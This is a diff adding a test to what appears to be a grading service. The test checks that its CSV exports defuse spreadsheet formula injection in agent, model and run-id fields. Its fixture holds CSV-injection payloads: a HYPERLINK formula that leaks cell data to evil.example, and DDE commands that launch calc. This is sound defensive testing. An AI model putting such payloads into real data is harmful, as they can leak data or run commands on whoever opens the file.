@@ -131,3 +131,37 @@ async def test_a_cell_never_hides_another_submissions_grading(store: Store) -> N
 
 def _cell_ids(table: Any, column: str) -> list[str]:
     return [row.cells[column].grading_id for row in table.rows if column in row.cells]
+
+
+#: what a submitter may name its agent, model and run so that a spreadsheet runs it
+FORMULAS = {
+    "agent": '=HYPERLINK("https://evil.example/?leak="&B2,"open")',
+    "model": "+cmd|' /C calc'!A0",
+    "run_id": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+async def test_csv_for_people_never_hands_a_spreadsheet_a_formula(
+    api_client: Any, tokens: Any
+) -> None:
+    """An agent's name, model or run id beginning ``=``, ``+``, ``@`` reached the CSV an
+    adjudicator opens in a spreadsheet as it was sent, where it runs (a link leaking
+    other cells, a DDE command). The workbench's and the API's CSV and the CSV export
+    prefix such text with ``'``; the SREGym export keeps its cells byte for byte."""
+    agent, ada = await tokens("submitter"), await tokens("adjudicator", "Ada")
+    body = {"diagnosis": DIAGNOSIS, "ground_truth": TRUTH, **FORMULAS}
+    async with api_client(**scripted_judge(sregym_reply(set(IDS)))) as client:
+        sent = await client.post("/v1/submissions?wait=10", json=body, headers=agent)
+        assert sent.status_code == 201, sent.text
+        admin = await tokens("admin")
+        api = await client.get("/v1/stats/evaluation-table.csv?inline=include", headers=ada)
+        export = await client.get("/v1/exports/gradings?format=csv", headers=admin)
+        sregym = await client.get("/v1/exports/gradings?format=sregym", headers=admin)
+        await sign_in(client, ada)
+        page = await client.get("/reports/table.csv?inline=include")
+    for response in (page, api, export):
+        assert response.status_code == 200, response.text
+        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert f"'{FORMULAS['agent']}" in cells and f"'{FORMULAS['run_id']}" in cells
+    assert FORMULAS["agent"] in next(csv.reader(io.StringIO(sregym.text.splitlines()[1])))
